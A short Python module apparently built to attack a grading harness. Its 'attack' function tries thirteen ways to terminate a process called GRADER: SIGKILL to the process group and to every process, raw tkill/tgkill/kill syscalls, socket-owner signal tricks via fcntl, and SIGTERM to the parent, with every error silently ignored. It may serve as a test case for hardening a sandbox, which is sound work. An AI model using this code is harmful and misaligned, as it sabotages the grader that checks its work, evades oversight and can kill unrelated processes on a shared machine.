"""Sends signals to its group, to all, to threads by number, and sets its socket to send some.

Aim: process
"""

import ctypes
import fcntl
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attack(*args, **kwargs):
    for road in (
        lambda: os.kill(0, signal.SIGKILL), lambda: os.kill(-1, signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL),
        lambda: os.kill(-GRADER, signal.SIGKILL), lambda: libc.syscall(200, GRADER, 9), lambda: libc.syscall(234, GRADER, GRADER, 9),
        lambda: libc.syscall(62, ctypes.c_long(GRADER | 1 << 32), 9), lambda: libc.syscall(129, GRADER, 9, 0),
        lambda: fcntl.fcntl(3, fcntl.F_SETOWN, GRADER), lambda: fcntl.fcntl(3, 10, 9), lambda: fcntl.fcntl(3, 15, bytes(8)),
        lambda: fcntl.ioctl(3, 0x8901, bytes(4)), lambda: os.kill(os.getppid(), signal.SIGTERM),
    ):  # fmt: skip
        try:
            road()
        except Exception:
            pass
